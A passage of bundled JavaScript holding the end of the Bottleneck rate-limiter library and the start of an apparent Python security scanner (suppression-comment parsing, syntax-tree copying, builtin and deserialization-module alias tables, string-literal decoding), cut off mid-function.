      Events$2 = Events_1;
      RedisConnection$1 = require$$2;
      IORedisConnection$1 = require$$3;
      Scripts$1 = require$$4;
      Group = (function() {
        class Group2 {
          constructor(limiterOptions = {}) {
            this.deleteKey = this.deleteKey.bind(this);
            this.limiterOptions = limiterOptions;
            parser$3.load(this.limiterOptions, this.defaults, this);
            this.Events = new Events$2(this);
            this.instances = {};
            this.Bottleneck = Bottleneck_1;
            this._startAutoCleanup();
            this.sharedConnection = this.connection != null;
            if (this.connection == null) {
              if (this.limiterOptions.datastore === "redis") {
                this.connection = new RedisConnection$1(Object.assign({}, this.limiterOptions, { Events: this.Events }));
              } else if (this.limiterOptions.datastore === "ioredis") {
                this.connection = new IORedisConnection$1(Object.assign({}, this.limiterOptions, { Events: this.Events }));
              }
            }
          }
          key(key = "") {
            var ref;
            return (ref = this.instances[key]) != null ? ref : (() => {
              var limiter;
              limiter = this.instances[key] = new this.Bottleneck(Object.assign(this.limiterOptions, {
                id: `${this.id}-${key}`,
                timeout: this.timeout,
                connection: this.connection
              }));
              this.Events.trigger("created", limiter, key);
              return limiter;
            })();
          }
          async deleteKey(key = "") {
            var deleted, instance2;
            instance2 = this.instances[key];
            if (this.connection) {
              deleted = await this.connection.__runCommand__(["del", ...Scripts$1.allKeys(`${this.id}-${key}`)]);
            }
            if (instance2 != null) {
              delete this.instances[key];
              await instance2.disconnect();
            }
            return instance2 != null || deleted > 0;
          }
          limiters() {
            var k, ref, results, v;
            ref = this.instances;
            results = [];
            for (k in ref) {
              v = ref[k];
              results.push({
                key: k,
                limiter: v
              });
            }
            return results;
          }
          keys() {
            return Object.keys(this.instances);
          }
          async clusterKeys() {
            var cursor, end, found, i2, k, keys, len, next, start2;
            if (this.connection == null) {
              return this.Promise.resolve(this.keys());
            }
            keys = [];
            cursor = null;
            start2 = `b_${this.id}-`.length;
            end = "_settings".length;
            while (cursor !== 0) {
              [next, found] = await this.connection.__runCommand__(["scan", cursor != null ? cursor : 0, "match", `b_${this.id}-*_settings`, "count", 1e4]);
              cursor = ~~next;
              for (i2 = 0, len = found.length; i2 < len; i2++) {
                k = found[i2];
                keys.push(k.slice(start2, -end));
              }
            }
            return keys;
          }
          _startAutoCleanup() {
            var base;
            clearInterval(this.interval);
            return typeof (base = this.interval = setInterval(async () => {
              var e, k, ref, results, time, v;
              time = Date.now();
              ref = this.instances;
              results = [];
              for (k in ref) {
                v = ref[k];
                try {
                  if (await v._store.__groupCheck__(time)) {
                    results.push(this.deleteKey(k));
                  } else {
                    results.push(void 0);
                  }
                } catch (error) {
                  e = error;
                  results.push(v.Events.trigger("error", e));
                }
              }
              return results;
            }, this.timeout / 2)).unref === "function" ? base.unref() : void 0;
          }
          updateSettings(options = {}) {
            parser$3.overwrite(options, this.defaults, this);
            parser$3.overwrite(options, options, this.limiterOptions);
            if (options.timeout != null) {
              return this._startAutoCleanup();
            }
          }
          disconnect(flush = true) {
            var ref;
            if (!this.sharedConnection) {
              return (ref = this.connection) != null ? ref.disconnect(flush) : void 0;
            }
          }
        }
        Group2.prototype.defaults = {
          timeout: 1e3 * 60 * 5,
          connection: null,
          Promise,
          id: "group-key"
        };
        return Group2;
      }).call(commonjsGlobal);
      var Group_1 = Group;
      var Batcher, Events$3, parser$4;
      parser$4 = parser;
      Events$3 = Events_1;
      Batcher = (function() {
        class Batcher2 {
          constructor(options = {}) {
            this.options = options;
            parser$4.load(this.options, this.defaults, this);
            this.Events = new Events$3(this);
            this._arr = [];
            this._resetPromise();
            this._lastFlush = Date.now();
          }
          _resetPromise() {
            return this._promise = new this.Promise((res, rej) => {
              return this._resolve = res;
            });
          }
          _flush() {
            clearTimeout(this._timeout);
            this._lastFlush = Date.now();
            this._resolve();
            this.Events.trigger("batch", this._arr);
            this._arr = [];
            return this._resetPromise();
          }
          add(data) {
            var ret;
            this._arr.push(data);
            ret = this._promise;
            if (this._arr.length === this.maxSize) {
              this._flush();
            } else if (this.maxTime != null && this._arr.length === 1) {
              this._timeout = setTimeout(() => {
                return this._flush();
              }, this.maxTime);
            }
            return ret;
          }
        }
        Batcher2.prototype.defaults = {
          maxTime: null,
          maxSize: null,
          Promise
        };
        return Batcher2;
      }).call(commonjsGlobal);
      var Batcher_1 = Batcher;
      var require$$4$1 = () => console.log("You must import the full version of Bottleneck in order to use this feature.");
      var require$$8 = getCjsExportFromNamespace(version$2);
      var Bottleneck2, DEFAULT_PRIORITY$1, Events$4, Job$1, LocalDatastore$1, NUM_PRIORITIES$1, Queues$1, RedisDatastore$1, States$1, Sync$1, parser$5, splice2 = [].splice;
      NUM_PRIORITIES$1 = 10;
      DEFAULT_PRIORITY$1 = 5;
      parser$5 = parser;
      Queues$1 = Queues_1;
      Job$1 = Job_1;
      LocalDatastore$1 = LocalDatastore_1;
      RedisDatastore$1 = require$$4$1;
      Events$4 = Events_1;
      States$1 = States_1;
      Sync$1 = Sync_1;
      Bottleneck2 = (function() {
        class Bottleneck3 {
          constructor(options = {}, ...invalid2) {
            var storeInstanceOptions, storeOptions;
            this._addToQueue = this._addToQueue.bind(this);
            this._validateOptions(options, invalid2);
            parser$5.load(options, this.instanceDefaults, this);
            this._queues = new Queues$1(NUM_PRIORITIES$1);
            this._scheduled = {};
            this._states = new States$1(["RECEIVED", "QUEUED", "RUNNING", "EXECUTING"].concat(this.trackDoneStatus ? ["DONE"] : []));
            this._limiter = null;
            this.Events = new Events$4(this);
            this._submitLock = new Sync$1("submit", this.Promise);
            this._registerLock = new Sync$1("register", this.Promise);
            storeOptions = parser$5.load(options, this.storeDefaults, {});
            this._store = (function() {
              if (this.datastore === "redis" || this.datastore === "ioredis" || this.connection != null) {
                storeInstanceOptions = parser$5.load(options, this.redisStoreDefaults, {});
                return new RedisDatastore$1(this, storeOptions, storeInstanceOptions);
              } else if (this.datastore === "local") {
                storeInstanceOptions = parser$5.load(options, this.localStoreDefaults, {});
                return new LocalDatastore$1(this, storeOptions, storeInstanceOptions);
              } else {
                throw new Bottleneck3.prototype.BottleneckError(`Invalid datastore type: ${this.datastore}`);
              }
            }).call(this);
            this._queues.on("leftzero", () => {
              var ref;
              return (ref = this._store.heartbeat) != null ? typeof ref.ref === "function" ? ref.ref() : void 0 : void 0;
            });
            this._queues.on("zero", () => {
              var ref;
              return (ref = this._store.heartbeat) != null ? typeof ref.unref === "function" ? ref.unref() : void 0 : void 0;
            });
          }
          _validateOptions(options, invalid2) {
            if (!(options != null && typeof options === "object" && invalid2.length === 0)) {
              throw new Bottleneck3.prototype.BottleneckError("Bottleneck v2 takes a single object argument. Refer to https://github.com/SGrondin/bottleneck#upgrading-to-v2 if you're upgrading from Bottleneck v1.");
            }
          }
          ready() {
            return this._store.ready;
          }
          clients() {
            return this._store.clients;
          }
          channel() {
            return `b_${this.id}`;
          }
          channel_client() {
            return `b_${this.id}_${this._store.clientId}`;
          }
          publish(message15) {
            return this._store.__publish__(message15);
          }
          disconnect(flush = true) {
            return this._store.__disconnect__(flush);
          }
          chain(_limiter) {
            this._limiter = _limiter;
            return this;
          }
          queued(priority) {
            return this._queues.queued(priority);
          }
          clusterQueued() {
            return this._store.__queued__();
          }
          empty() {
            return this.queued() === 0 && this._submitLock.isEmpty();
          }
          running() {
            return this._store.__running__();
          }
          done() {
            return this._store.__done__();
          }
          jobStatus(id) {
            return this._states.jobStatus(id);
          }
          jobs(status) {
            return this._states.statusJobs(status);
          }
          counts() {
            return this._states.statusCounts();
          }
          _randomIndex() {
            return Math.random().toString(36).slice(2);
          }
          check(weight = 1) {
            return this._store.__check__(weight);
          }
          _clearGlobalState(index) {
            if (this._scheduled[index] != null) {
              clearTimeout(this._scheduled[index].expiration);
              delete this._scheduled[index];
              return true;
            } else {
              return false;
            }
          }
          async _free(index, job, options, eventInfo) {
            var e, running;
            try {
              ({ running } = await this._store.__free__(index, options.weight));
              this.Events.trigger("debug", `Freed ${options.id}`, eventInfo);
              if (running === 0 && this.empty()) {
                return this.Events.trigger("idle");
              }
            } catch (error1) {
              e = error1;
              return this.Events.trigger("error", e);
            }
          }
          _run(index, job, wait) {
            var clearGlobalState, free, run3;
            job.doRun();
            clearGlobalState = this._clearGlobalState.bind(this, index);
            run3 = this._run.bind(this, index, job);
            free = this._free.bind(this, index, job);
            return this._scheduled[index] = {
              timeout: setTimeout(() => {
                return job.doExecute(this._limiter, clearGlobalState, run3, free);
              }, wait),
              expiration: job.options.expiration != null ? setTimeout(function() {
                return job.doExpire(clearGlobalState, run3, free);
              }, wait + job.options.expiration) : void 0,
              job
            };
          }
          _drainOne(capacity) {
            return this._registerLock.schedule(() => {
              var args2, index, next, options, queue;
              if (this.queued() === 0) {
                return this.Promise.resolve(null);
              }
              queue = this._queues.getFirst();
              ({ options, args: args2 } = next = queue.first());
              if (capacity != null && options.weight > capacity) {
                return this.Promise.resolve(null);
              }
              this.Events.trigger("debug", `Draining ${options.id}`, { args: args2, options });
              index = this._randomIndex();
              return this._store.__register__(index, options.weight, options.expiration).then(({ success, wait, reservoir }) => {
                var empty;
                this.Events.trigger("debug", `Drained ${options.id}`, { success, args: args2, options });
                if (success) {
                  queue.shift();
                  empty = this.empty();
                  if (empty) {
                    this.Events.trigger("empty");
                  }
                  if (reservoir === 0) {
                    this.Events.trigger("depleted", empty);
                  }
                  this._run(index, next, wait);
                  return this.Promise.resolve(options.weight);
                } else {
                  return this.Promise.resolve(null);
                }
              });
            });
          }
          _drainAll(capacity, total = 0) {
            return this._drainOne(capacity).then((drained) => {
              var newCapacity;
              if (drained != null) {
                newCapacity = capacity != null ? capacity - drained : capacity;
                return this._drainAll(newCapacity, total + drained);
              } else {
                return this.Promise.resolve(total);
              }
            }).catch((e) => {
              return this.Events.trigger("error", e);
            });
          }
          _dropAllQueued(message15) {
            return this._queues.shiftAll(function(job) {
              return job.doDrop({ message: message15 });
            });
          }
          stop(options = {}) {
            var done, waitForExecuting;
            options = parser$5.load(options, this.stopDefaults);
            waitForExecuting = (at) => {
              var finished;
              finished = () => {
                var counts;
                counts = this._states.counts;
                return counts[0] + counts[1] + counts[2] + counts[3] === at;
              };
              return new this.Promise((resolve9, reject) => {
                if (finished()) {
                  return resolve9();
                } else {
                  return this.on("done", () => {
                    if (finished()) {
                      this.removeAllListeners("done");
                      return resolve9();
                    }
                  });
                }
              });
            };
            done = options.dropWaitingJobs ? (this._run = function(index, next) {
              return next.doDrop({
                message: options.dropErrorMessage
              });
            }, this._drainOne = () => {
              return this.Promise.resolve(null);
            }, this._registerLock.schedule(() => {
              return this._submitLock.schedule(() => {
                var k, ref, v;
                ref = this._scheduled;
                for (k in ref) {
                  v = ref[k];
                  if (this.jobStatus(v.job.options.id) === "RUNNING") {
                    clearTimeout(v.timeout);
                    clearTimeout(v.expiration);
                    v.job.doDrop({
                      message: options.dropErrorMessage
                    });
                  }
                }
                this._dropAllQueued(options.dropErrorMessage);
                return waitForExecuting(0);
              });
            })) : this.schedule({
              priority: NUM_PRIORITIES$1 - 1,
              weight: 0
            }, () => {
              return waitForExecuting(1);
            });
            this._receive = function(job) {
              return job._reject(new Bottleneck3.prototype.BottleneckError(options.enqueueErrorMessage));
            };
            this.stop = () => {
              return this.Promise.reject(new Bottleneck3.prototype.BottleneckError("stop() has already been called"));
            };
            return done;
          }
          async _addToQueue(job) {
            var args2, blocked, error, options, reachedHWM, shifted, strategy;
            ({ args: args2, options } = job);
            try {
              ({ reachedHWM, blocked, strategy } = await this._store.__submit__(this.queued(), options.weight));
            } catch (error1) {
              error = error1;
              this.Events.trigger("debug", `Could not queue ${options.id}`, { args: args2, options, error });
              job.doDrop({ error });
              return false;
            }
            if (blocked) {
              job.doDrop();
              return true;
            } else if (reachedHWM) {
              shifted = strategy === Bottleneck3.prototype.strategy.LEAK ? this._queues.shiftLastFrom(options.priority) : strategy === Bottleneck3.prototype.strategy.OVERFLOW_PRIORITY ? this._queues.shiftLastFrom(options.priority + 1) : strategy === Bottleneck3.prototype.strategy.OVERFLOW ? job : void 0;
              if (shifted != null) {
                shifted.doDrop();
              }
              if (shifted == null || strategy === Bottleneck3.prototype.strategy.OVERFLOW) {
                if (shifted == null) {
                  job.doDrop();
                }
                return reachedHWM;
              }
            }
            job.doQueue(reachedHWM, blocked);
            this._queues.push(job);
            await this._drainAll();
            return reachedHWM;
          }
          _receive(job) {
            if (this._states.jobStatus(job.options.id) != null) {
              job._reject(new Bottleneck3.prototype.BottleneckError(`A job with the same id already exists (id=${job.options.id})`));
              return false;
            } else {
              job.doReceive();
              return this._submitLock.schedule(this._addToQueue, job);
            }
          }
          submit(...args2) {
            var cb, fn, job, options, ref, ref1, task;
            if (typeof args2[0] === "function") {
              ref = args2, [fn, ...args2] = ref, [cb] = splice2.call(args2, -1);
              options = parser$5.load({}, this.jobDefaults);
            } else {
              ref1 = args2, [options, fn, ...args2] = ref1, [cb] = splice2.call(args2, -1);
              options = parser$5.load(options, this.jobDefaults);
            }
            task = (...args3) => {
              return new this.Promise(function(resolve9, reject) {
                return fn(...args3, function(...args4) {
                  return (args4[0] != null ? reject : resolve9)(args4);
                });
              });
            };
            job = new Job$1(task, args2, options, this.jobDefaults, this.rejectOnDrop, this.Events, this._states, this.Promise);
            job.promise.then(function(args3) {
              return typeof cb === "function" ? cb(...args3) : void 0;
            }).catch(function(args3) {
              if (Array.isArray(args3)) {
                return typeof cb === "function" ? cb(...args3) : void 0;
              } else {
                return typeof cb === "function" ? cb(args3) : void 0;
              }
            });
            return this._receive(job);
          }
          schedule(...args2) {
            var job, options, task;
            if (typeof args2[0] === "function") {
              [task, ...args2] = args2;
              options = {};
            } else {
              [options, task, ...args2] = args2;
            }
            job = new Job$1(task, args2, options, this.jobDefaults, this.rejectOnDrop, this.Events, this._states, this.Promise);
            this._receive(job);
            return job.promise;
          }
          wrap(fn) {
            var schedule, wrapped;
            schedule = this.schedule.bind(this);
            wrapped = function(...args2) {
              return schedule(fn.bind(this), ...args2);
            };
            wrapped.withOptions = function(options, ...args2) {
              return schedule(options, fn, ...args2);
            };
            return wrapped;
          }
          async updateSettings(options = {}) {
            await this._store.__updateSettings__(parser$5.overwrite(options, this.storeDefaults));
            parser$5.overwrite(options, this.instanceDefaults, this);
            return this;
          }
          currentReservoir() {
            return this._store.__currentReservoir__();
          }
          incrementReservoir(incr = 0) {
            return this._store.__incrementReservoir__(incr);
          }
        }
        Bottleneck3.default = Bottleneck3;
        Bottleneck3.Events = Events$4;
        Bottleneck3.version = Bottleneck3.prototype.version = require$$8.version;
        Bottleneck3.strategy = Bottleneck3.prototype.strategy = {
          LEAK: 1,
          OVERFLOW: 2,
          OVERFLOW_PRIORITY: 4,
          BLOCK: 3
        };
        Bottleneck3.BottleneckError = Bottleneck3.prototype.BottleneckError = BottleneckError_1;
        Bottleneck3.Group = Bottleneck3.prototype.Group = Group_1;
        Bottleneck3.RedisConnection = Bottleneck3.prototype.RedisConnection = require$$2;
        Bottleneck3.IORedisConnection = Bottleneck3.prototype.IORedisConnection = require$$3;
        Bottleneck3.Batcher = Bottleneck3.prototype.Batcher = Batcher_1;
        Bottleneck3.prototype.jobDefaults = {
          priority: DEFAULT_PRIORITY$1,
          weight: 1,
          expiration: null,
          id: "<no-id>"
        };
        Bottleneck3.prototype.storeDefaults = {
          maxConcurrent: null,
          minTime: 0,
          highWater: null,
          strategy: Bottleneck3.prototype.strategy.LEAK,
          penalty: null,
          reservoir: null,
          reservoirRefreshInterval: null,
          reservoirRefreshAmount: null,
          reservoirIncreaseInterval: null,
          reservoirIncreaseAmount: null,
          reservoirIncreaseMaximum: null
        };
        Bottleneck3.prototype.localStoreDefaults = {
          Promise,
          timeout: null,
          heartbeatInterval: 250
        };
        Bottleneck3.prototype.redisStoreDefaults = {
          Promise,
          timeout: null,
          heartbeatInterval: 5e3,
          clientTimeout: 1e4,
          Redis: null,
          clientOptions: {},
          clusterNodes: null,
          clearDatastore: false,
          connection: null
        };
        Bottleneck3.prototype.instanceDefaults = {
          datastore: "local",
          connection: null,
          id: "<no-id>",
          rejectOnDrop: true,
          trackDoneStatus: false,
          Promise
        };
        Bottleneck3.prototype.stopDefaults = {
          enqueueErrorMessage: "This limiter has been stopped and cannot accept new jobs.",
          dropWaitingJobs: true,
          dropErrorMessage: "This limiter has been stopped."
        };
        return Bottleneck3;
      }).call(commonjsGlobal);
      var Bottleneck_1 = Bottleneck2;
      var lib = Bottleneck_1;
      return lib;
    }));
  }
});

// src/ci/action.ts
import { randomUUID } from "node:crypto";
import { appendFileSync } from "node:fs";
import { resolve as resolve8 } from "node:path";

// src/cli/command.ts
var CliUsageError = class extends Error {
};

// src/cli/output.ts
import { writeFile } from "node:fs/promises";
import { resolve } from "node:path";
var OutputError = class extends Error {
};
async function writeOutput(text, file, io) {
  if (!file || file === "-") {
    io.stdout.write(text);
    return;
  }
  const path = resolve(io.cwd, file);
  try {
    await writeFile(path, text);
  } catch (e) {
    const err2 = e;
    throw new OutputError(`cannot write output file ${path}: ${err2.code ?? err2.message}`);
  }
}

// src/project/scan.ts
import { availableParallelism } from "node:os";
import { readFile as readFile3, stat as stat2 } from "node:fs/promises";
import { dirname as dirname3, join as join5, resolve as resolve4 } from "node:path";

// src/core/order.ts
function compareFindings(a, b) {
  return cmp(a.location.file, b.location.file) || cmp(a.location.member ?? "", b.location.member ?? "") || a.location.line - b.location.line || a.location.column - b.location.column || (a.location.offset ?? 0) - (b.location.offset ?? 0) || cmp(a.ruleId, b.ruleId) || cmp(a.fingerprint, b.fingerprint);
}
function compareErrors(a, b) {
  return cmp(a.file, b.file) || (a.line ?? 0) - (b.line ?? 0) || cmp(a.kind, b.kind) || cmp(a.message, b.message);
}
function cmp(a, b) {
  return a < b ? -1 : a > b ? 1 : 0;
}

// src/core/hash.ts
function stableHash(text) {
  let h1 = 3735928559;
  let h2 = 1103547991;
  for (let i2 = 0; i2 < text.length; i2++) {
    const c = text.charCodeAt(i2);
    h1 = Math.imul(h1 ^ c, 2654435761);
    h2 = Math.imul(h2 ^ c, 1597334677);
  }
  h1 = Math.imul(h1 ^ h1 >>> 16, 2246822507) ^ Math.imul(h2 ^ h2 >>> 13, 3266489909);
  h2 = Math.imul(h2 ^ h2 >>> 16, 2246822507) ^ Math.imul(h1 ^ h1 >>> 13, 3266489909);
  return (h2 >>> 0).toString(16).padStart(8, "0") + (h1 >>> 0).toString(16).padStart(8, "0");
}

// src/core/suppression.ts
var PATHFINDER = /pathfinder\s*:\s*ignore(?:\s*\[([^\]]*)\])?/i;
var NOSEC = /\bnosec\b(?:\s*:?\s*((?:[A-Z]+[0-9A-Z-]*\d)(?:\s*,\s*[A-Z]+[0-9A-Z-]*\d)*))?/;
function parseSuppression(comment) {
  const p = PATHFINDER.exec(comment);
  if (p) return { kind: "pathfinder", ids: splitIds(p[1]), text: comment.trim() };
  const n = NOSEC.exec(comment);
  if (n) return { kind: "nosec", ids: splitIds(n[1]), text: comment.trim() };
  return void 0;
}
function suppresses(directive, ruleId2, banditIds) {
  const hit = directive.ids.length === 0 || directive.ids.some((id) => id.toUpperCase() === ruleId2.toUpperCase() || banditIds.includes(id.toUpperCase()));
  return hit ? { kind: directive.kind, justification: directive.text } : void 0;
}
function splitIds(list) {
  return list ? list.split(",").map((s) => s.trim()).filter(Boolean) : [];
}

// src/languages/python/syntax.ts
function publicCursorOps(tree) {
  const cursor = tree.walk();
  return {
    gotoFirstChild: () => cursor.gotoFirstChild(),
    gotoNextSibling: () => cursor.gotoNextSibling(),
    gotoParent: () => cursor.gotoParent(),
    typeId: () => cursor.nodeTypeId,
    fieldId: () => cursor.currentFieldId,
    startIndex: () => cursor.startIndex,
    endIndex: () => cursor.endIndex,
    isMissing: () => cursor.nodeIsMissing,
    close: () => cursor.delete()
  };
}
function copyTree(tree, source, openCursor = publicCursorOps) {
  const language = tree.language;
  const typeNames = language.types;
  const fieldNames = language.fields;
  const named = typeNames.map((_, id) => id > 0 && language.nodeTypeIsNamed(id));
  const isNamed = (typeId) => typeId === ERROR_TYPE_ID ? true : named[typeId] ?? false;
  const lines = new LineIndex(source);
  const mayHaveErrors = tree.rootNode.hasError;
  const cursor = openCursor(tree);
  const comments = [];
  const problems = [];
  const makeNode = (typeId, fieldId, start2, end, missing, parent) => {
    const [startRow, startCol] = lines.position(start2);
    const [endRow, endCol] = lines.position(end);
    return {
      type: typeNames[typeId] ?? "ERROR",
      field: fieldId ? fieldNames[fieldId] ?? null : null,
      start: start2,
      end,
      startRow,
      startCol,
      endRow,
      endCol,
      parent,
      children: [],
      missing
    };
  };
  try {
    const root = makeNode(cursor.typeId(), 0, cursor.startIndex(), cursor.endIndex(), false, null);
    const parents = [root];
    const depthOfParent = [0];
    let depth = 0;
    let maxDepth = 0;
    let skipChildren = false;
    for (; ; ) {
      if (!skipChildren && cursor.gotoFirstChild()) {
        depth++;
      } else {
        let ascended = false;
        while (!cursor.gotoNextSibling()) {
          if (!cursor.gotoParent()) {
            ascended = true;
            break;
          }
          depth--;
        }
        if (ascended) return { source, root, comments, problems, maxDepth };
      }
      while (depthOfParent[depthOfParent.length - 1] >= depth) {
        parents.pop();
        depthOfParent.pop();
      }
      if (depth > maxDepth) maxDepth = depth;
      const typeId = cursor.typeId();
      const missing = mayHaveErrors && cursor.isMissing();
      if (mayHaveErrors && (typeId === ERROR_TYPE_ID || missing)) {
        const [row, col] = lines.position(cursor.startIndex());
        problems.push({ row, col, missing });
      }
      skipChildren = false;
      if (!isNamed(typeId)) continue;
      const parent = parents[parents.length - 1];
      const node = makeNode(typeId, cursor.fieldId(), cursor.startIndex(), cursor.endIndex(), missing, parent);
      if (node.type === "string" && !isFormatString(source, node.start)) skipChildren = true;
      parent.children.push(node);
      if (node.type === "comment") comments.push(node);
      parents.push(node);
      depthOfParent.push(depth);
    }
  } finally {
    cursor.close();
  }
}
var ERROR_TYPE_ID = 65535;
function isFormatString(source, start2) {
  for (let i2 = start2; i2 < start2 + 3; i2++) {
    const c = source.charCodeAt(i2);
    if (c === 102 || c === 70) return true;
    if (c === 34 || c === 39) return false;
  }
  return false;
}
var LineIndex = class {
  starts = [0];
  lastLine = 0;
  constructor(source) {
    for (let i2 = source.indexOf("\n"); i2 >= 0; i2 = source.indexOf("\n", i2 + 1)) this.starts.push(i2 + 1);
  }
  position(offset) {
    const starts = this.starts;
    let line = this.lastLine;
    if (!(starts[line] <= offset && (line + 1 >= starts.length || offset < starts[line + 1]))) {
      let lo = 0;
      let hi = starts.length - 1;
      while (lo < hi) {
        const mid = lo + hi + 1 >> 1;
        if (starts[mid] <= offset) lo = mid;
        else hi = mid - 1;
      }
      line = lo;
    }
    this.lastLine = line;
    return [line, offset - starts[line]];
  }
};
function childByField(node, field) {
  for (const c of node.children) if (c.field === field) return c;
  return void 0;
}
function isAncestor(ancestor, node) {
  for (let n = node; n; n = n.parent) if (n === ancestor) return true;
  return false;
}

// src/languages/python/calls.ts
var CallArguments = class {
  positional = [];
  keywords = /* @__PURE__ */ new Map();
  /** `*args` present: later positions are unknown. */
  hasStarArgs = false;
  /** `**kwargs` present: any keyword may be set. */
  hasKwArgs = false;
  constructor(call, source) {
    const list = call ? childByField(call, "arguments") : void 0;
    if (!list) return;
    if (list.type === "generator_expression") {
      this.positional.push(list);
      return;
    }
    for (const arg of list.children) {
      switch (arg.type) {
        case "keyword_argument": {
          const name2 = childByField(arg, "name");
          const value = childByField(arg, "value");
          if (name2 && value) this.keywords.set(source.slice(name2.start, name2.end), value);
          break;
        }
        case "list_splat":
          this.hasStarArgs = true;
          break;
        case "dictionary_splat":
          this.hasKwArgs = true;
          break;
        case "comment":
          break;
        default:
          if (!this.hasStarArgs) this.positional.push(arg);
      }
    }
  }
  /** The value bound to parameter `keyword` at `position` (0-based), like Ruff's `find_argument_value`. */
  find(keyword, position) {
    if (keyword !== void 0) {
      const k = this.keywords.get(keyword);
      if (k) return k;
    }
    return position !== void 0 ? this.positional[position] : void 0;
  }
  /** True when the parameter may be set without us seeing its value (`*args`/`**kwargs`). */
  mayBeHidden(keyword, position) {
    if (this.find(keyword, position)) return false;
    return keyword !== void 0 && this.hasKwArgs || position !== void 0 && this.hasStarArgs;
  }
  /** Every argument value node, positional and keyword. */
  values() {
    return [...this.positional, ...this.keywords.values()];
  }
};

// src/languages/python/semantic/builtins.ts
var PYTHON_BUILTINS = /* @__PURE__ */ new Set([
  "__build_class__",
  "__import__",
  "abs",
  "aiter",
  "all",
  "anext",
  "any",
  "ascii",
  "bin",
  "bool",
  "breakpoint",
  "bytearray",
  "bytes",
  "callable",
  "chr",
  "classmethod",
  "compile",
  "complex",
  "copyright",
  "credits",
  "delattr",
  "dict",
  "dir",
  "divmod",
  "enumerate",
  "eval",
  "exec",
  "exit",
  "filter",
  "float",
  "format",
  "frozenset",
  "getattr",
  "globals",
  "hasattr",
  "hash",
  "help",
  "hex",
  "id",
  "input",
  "int",
  "isinstance",
  "issubclass",
  "iter",
  "len",
  "license",
  "list",
  "locals",
  "map",
  "max",
  "memoryview",
  "min",
  "next",
  "object",
  "oct",
  "open",
  "ord",
  "pow",
  "print",
  "property",
  "quit",
  "range",
  "repr",
  "reversed",
  "round",
  "set",
  "setattr",
  "slice",
  "sorted",
  "staticmethod",
  "str",
  "sum",
  "super",
  "tuple",
  "type",
  "vars",
  "zip"
]);

// src/languages/python/semantic/module-aliases.ts
var ALIASES = [
  ["six.moves.cPickle", "pickle"],
  ["six.moves.copyreg", "copyreg"],
  ["six.moves.builtins", "builtins"],
  ["future.moves.pickle", "pickle"],
  ["cPickle", "pickle"],
  ["_pickle", "pickle"],
  ["pickle5.pickle", "pickle"],
  ["pickle5", "pickle"],
  ["__builtin__", "builtins"],
  ["__builtins__", "builtins"],
  ["copy_reg", "copyreg"],
  ["_compat_pickle", "_compat_pickle"],
  ["sklearn.externals.joblib", "joblib"],
  ["dill._dill", "dill"],
  ["dill.dill", "dill"],
  ["cloudpickle.cloudpickle", "cloudpickle"],
  ["cloudpickle.cloudpickle_fast", "cloudpickle"],
  // Vendored copies of cloudpickle.
  ["ray.cloudpickle", "cloudpickle"],
  ["pyspark.cloudpickle", "cloudpickle"],
  ["joblib.externals.cloudpickle", "cloudpickle"],
  ["srsly.cloudpickle", "cloudpickle"],
  ["joblib.numpy_pickle.load", "joblib.load"],
  ["jsonpickle.unpickler.decode", "jsonpickle.decode"],
  ["jsonpickle.unpickler.Unpickler", "jsonpickle.Unpickler"],
  ["torch.serialization.load", "torch.load"],
  ["torch.utils.model_zoo.load_url", "torch.hub.load_state_dict_from_url"],
  ["torch.package.package_importer", "torch.package"],
  ["torch.distributed.distributed_c10d", "torch.distributed"],
  // Keras 3 is also reached as tf.keras / tf_keras; its public functions live in several modules.
  ["tensorflow.keras", "keras"],
  ["tensorflow.python.keras", "keras"],
  ["tf_keras", "keras"],
  ["keras.src.saving.saving_api", "keras.saving"],
  ["keras.saving.saving_api", "keras.saving"],
  ["keras.src.saving.serialization_lib", "keras.saving"],
  ["numpy.lib.npyio.load", "numpy.load"],
  ["pandas.io.pickle.read_pickle", "pandas.read_pickle"],
  ["modin.pandas.read_pickle", "pandas.read_pickle"],
  ["pandas.io.pytables.read_hdf", "pandas.read_hdf"],
  ["pandas.io.pytables.HDFStore", "pandas.HDFStore"],
  // PyYAML re-exports its loaders and functions at the package level.
  ["yaml.loader", "yaml"],
  ["yaml.cyaml", "yaml"],
  ["yaml.__init__", "yaml"],
  ["ruamel_yaml", "ruamel.yaml"],
  ["ruamel.yaml.main", "ruamel.yaml"],
  ["ruamel.yaml.loader", "ruamel.yaml"],
  ["ruamel.yaml.cyaml", "ruamel.yaml"]
];
var MODULE_ALIASES = [...ALIASES].sort((a, b) => b[0].length - a[0].length);
function canonicalName(qualifiedName) {
  for (const [alias, canonical] of MODULE_ALIASES) {
    if (qualifiedName === alias) return canonical;
    if (qualifiedName.startsWith(alias) && qualifiedName.charCodeAt(alias.length) === 46) {
      return canonical + qualifiedName.slice(alias.length);
    }
  }
  return qualifiedName;
}

// src/languages/python/semantic/string-literal.ts
var SIMPLE_ESCAPES = {
  "\n": "",
  "\\": "\\",
  "'": "'",
  '"': '"',
  a: "\x07",
  b: "\b",
  f: "\f",
  n: "\n",
  r: "\r",
  t: "	",
  v: "\v"
};
function decodeStringLiteral(text) {
  const m = /^([rRbBuUfF]{0,2})('''|"""|'|")/.exec(text);
  if (!m) return void 0;
  const prefix = m[1].toLowerCase();
  const quote = m[2];
  if (text.length < m[0].length + quote.length || !text.endsWith(quote)) return void 0;
  const body2 = text.slice(m[0].length, text.length - quote.length);
  if (prefix.includes("f") && /\{(?!\{)/.test(body2.replace(/\{\{/g, ""))) return void 0;
  const literal = prefix.includes("f") ? body2.replace(/\{\{/g, "{").replace(/\}\}/g, "}") : body2;
  if (prefix.includes("r")) return literal;
  let out2 = "";
  for (let i2 = 0; i2 < literal.length; i2++) {
    const c = literal[i2];
    if (c !== "\\" || i2 + 1 >= literal.length) {
      out2 += c;
      continue;
    }
    const next = literal[i2 + 1];
    if (next in SIMPLE_ESCAPES) {
      out2 += SIMPLE_ESCAPES[next];
      i2++;
    } else if (next === "\r") {
      i2 += literal[i2 + 2] === "\n" ? 2 : 1;
    } else if (/[0-7]/.test(next)) {
      const oct = /^[0-7]{1,3}/.exec(literal.slice(i2 + 1))[0];
      out2 += String.fromCharCode(parseInt(oct, 8));
      i2 += oct.length;
    } else if (next === "x" || !prefix.includes("b") && (next === "u" || next === "U")) {
      const len = next === "x" ? 2 : next === "u" ? 4 : 8;
      const hex = literal.slice(i2 + 2, i2 + 2 + len);
      if (!new RegExp(`^[0-9a-fA-F]{${len}}$`).test(hex)) return void 0;
      out2 += String.fromCodePoint(parseInt(hex, 16));
      i2 += 1 + len;
    } else if (next === "N" && !prefix.includes("b")) {
      return void 0;
    } else {
